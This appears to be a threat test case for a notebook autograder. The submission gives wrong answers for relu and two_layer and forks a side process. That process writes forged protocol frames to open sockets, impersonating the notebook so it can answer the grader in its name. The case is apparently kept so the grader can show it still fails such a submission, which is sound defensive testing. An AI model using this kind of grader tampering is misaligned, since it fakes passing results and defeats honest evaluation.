# threat: 22
# fails: two_layer
# A process at the side that answers the grader's next orders in the notebook process's name.

# %% two_layer
import os
import stat

from autograder import wire


def answer():
    header = wire.frames._encoder.encode(wire.Forked(True))
    frame = wire.frames._PREFIX.pack(len(header), 0) + header
    for descriptor in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(descriptor).st_mode):
                os.write(descriptor, frame * 5)
        except OSError:
            pass


def relu(z):
    return 0 * z - 1


def two_layer(x, w1, b1, w2, b2):
    return torch.zeros(x.shape[0], w2.shape[0]).to(x)

# %% end
if os.fork() == 0:
    import time

    time.sleep(0.01)
    answer()
    os._exit(0)
